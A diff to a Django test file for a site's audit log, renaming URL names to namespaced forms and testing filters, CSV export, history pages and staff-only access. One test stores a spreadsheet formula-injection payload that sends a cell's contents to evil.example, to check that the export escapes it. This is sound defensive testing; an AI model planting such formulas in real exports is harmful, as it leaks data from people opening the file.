@@ -36,18 +36,18 @@ def test_staff_filter_the_log_and_download_it(client, staff):
     rename(client, first, "UAB Pirmoji", "request-first")
     rename(client, second, "UAB Antroji", "request-second")
 
-    page = client.get(reverse("audit-log"), {"request_id": "request-first"})
+    page = client.get(reverse("audit:log"), {"request_id": "request-first"})
     entries = list(page.context["page"].object_list)
     assert [entry.object_repr for entry in entries] == ["UAB Pirmoji"]
     assert "UAB Pirma → UAB Pirmoji" in page.content.decode()
 
-    updates = client.get(reverse("audit-log"), {"action": "1", "actor": "staff-audit"})
+    updates = client.get(reverse("audit:log"), {"action": "1", "actor": "staff-audit"})
     assert {entry.object_repr for entry in updates.context["page"].object_list} == {
         "UAB Pirmoji",
         "UAB Antroji",
     }
 
-    download = client.get(reverse("audit-log"), {"format": "csv", "record": "antroji"})
+    download = client.get(reverse("audit:log"), {"format": "csv", "record": "antroji"})
     assert download["Content-Type"].startswith("text/csv")
     rows = downloaded_rows(download)
     assert rows[0][:3] == ["time", "action", "kind of record"]
@@ -66,12 +66,12 @@ def test_a_name_a_manager_made_a_formula_is_plain_text_in_the_staff_download(cli
     formula = '=HYPERLINK("http://evil.example/steal?x="&A1,"Open")'
     manager = Client()
     manager.force_login(cluster_manager(cluster))
-    edit_url = reverse("cluster-edit", args=[cluster.slug])
+    edit_url = reverse("clusters:edit", args=[cluster.slug])
     data = form_data(manager.get(edit_url))
     data.update(name_lt=formula, name_en=formula)
     assert manager.post(edit_url, data).status_code == 302
 
-    download = client.get(reverse("audit-log"), {"format": "csv", "record": "HYPERLINK"})
+    download = client.get(reverse("audit:log"), {"format": "csv", "record": "HYPERLINK"})
     header, *rows = downloaded_rows(download)
     record = header.index("record")
     assert [row[record] for row in rows] == ["'" + formula]
@@ -82,32 +82,32 @@ def test_history_of_a_cluster_and_an_organisation(client, staff):
     cluster = Cluster.objects.create(name_lt="Istorija", name_en="History", status="published")
     cluster.acronym = "IST"
     cluster.save()
-    response = client.get(reverse("cluster-history", args=[cluster.slug]))
+    response = client.get(reverse("audit:cluster-history", args=[cluster.slug]))
     assert response.status_code == 200
     assert [entry.get_action_display() for entry in response.context["page"].object_list] == [
         "update",
         "create",
     ]
     organisation = Organisation.objects.create(name="UAB Istorija", kind="company")
-    response = client.get(reverse("organisation-history", args=[organisation.slug]))
+    response = client.get(reverse("audit:organisation-history", args=[organisation.slug]))
     assert len(response.context["page"].object_list) == 1
 
 
 def test_bad_filter_values_are_reported_not_fatal(client, staff):
-    response = client.get(reverse("audit-log"), {"since": "yesterday", "action": "9"})
+    response = client.get(reverse("audit:log"), {"since": "yesterday", "action": "9"})
     assert response.status_code == 200
     assert response.context["form"].errors.keys() == {"since", "action"}
 
 
 def test_only_staff_see_the_log_and_managers_their_cluster_history(client):
-    response = client.get(reverse("audit-log"))
+    response = client.get(reverse("audit:log"))
     assert response.status_code == 302
     assert "/accounts/login/" in response["Location"]
     cluster = Cluster.objects.create(name_lt="K", name_en="K", status="published")
     other = Cluster.objects.create(name_lt="L", name_en="L", status="published")
     client.force_login(cluster_manager(cluster))
-    assert client.get(reverse("audit-log")).status_code == 403
-    assert client.get(reverse("cluster-history", args=[other.slug])).status_code == 403
-    history = client.get(reverse("cluster-history", args=[cluster.slug]))
+    assert client.get(reverse("audit:log")).status_code == 403
+    assert client.get(reverse("audit:cluster-history", args=[other.slug])).status_code == 403
+    history = client.get(reverse("audit:cluster-history", args=[cluster.slug]))
     assert history.status_code == 200
     assert "History of K" in history.content.decode()
